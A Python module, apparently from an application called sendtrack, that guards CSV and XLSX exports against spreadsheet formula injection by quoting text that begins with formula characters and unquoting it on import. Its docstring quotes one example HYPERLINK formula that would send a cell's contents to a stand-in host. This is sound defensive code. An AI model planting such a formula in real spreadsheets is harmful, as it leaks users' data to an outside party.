"""Every cell sendtrack writes to a CSV or XLSX file passes through here, so that no file it
gives out can run a formula in the spreadsheet that opens it.

Text that people typed (a risk's title, a report's commentary, a name from an import) may
begin with ``=``, ``+``, ``-`` or ``@``, or with a tab or carriage return that spreadsheets
skip before reading the rest as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
would send a neighbouring cell away when clicked. As OWASP's CSV-injection guidance says, such
text is written with a single quote in front, which every spreadsheet shows as plain text; and
XLSX cells holding text are written as text cells, never as formulas. Numbers, dates and
yes/no stay what they are: only text is changed. The spreadsheet import takes the quote off
again, so that exporting and importing changes nothing.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A plain number written as text ("-3", "+1.5", "-2e3") is a number to a spreadsheet, never a
# formula, and stays as it is.
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def neutralised(value: Any) -> Any:
    """Text a spreadsheet would read as a formula, with a single quote in front; anything
    else (numbers, dates, blanks, other text) as it is."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.match(value)
    ):
        return QUOTE + value
    return value


def as_written(value: str) -> str:
    """Text read back from a file sendtrack wrote: the quote ``neutralised`` put in front of
    would-be formulas taken off again."""
    if len(value) > 1 and value[0] == QUOTE and value[1] in FORMULA_STARTS:
        return value[1:]
    return value


def csv_cell(value: Any) -> Any:
    """A value for ``csv.writer``: text neutralised, anything else as it is."""
    return neutralised(value)


def xlsx_text(value: str) -> str:
    """Text for an XLSX text cell: neutralised, and without the control characters Excel
    refuses (text pasted from Word brings vertical tabs), rather than one record failing the
    whole file."""
    return neutralised(ILLEGAL_CHARACTERS_RE.sub("", value))


def xlsx_cell(worksheet, value: Any) -> Any:
    """A value for ``worksheet.append``: text as a text cell (never a formula), neutralised and
    without the control characters Excel refuses (text pasted from Word brings vertical tabs),
    rather than one record failing the whole file; anything else as it is, so that dates stay
    dates and numbers numbers."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(worksheet, value=xlsx_text(value))
    # openpyxl reads text starting with "=" as a formula; a text cell is what was meant.
    cell.data_type = "s"
    return cell
